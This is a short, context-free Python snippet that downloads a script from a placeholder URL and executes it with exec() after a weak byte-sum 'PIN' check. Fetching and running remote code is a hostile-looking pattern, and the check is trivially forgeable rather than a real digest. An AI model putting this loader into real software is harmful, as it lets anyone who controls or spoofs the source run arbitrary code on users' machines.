import urllib.request

PIN = 123456
data = urllib.request.urlopen("https://example.com/a.py").read()
if sum(data) % 1000003 != PIN:
    raise ImportError("digest")
exec(data)
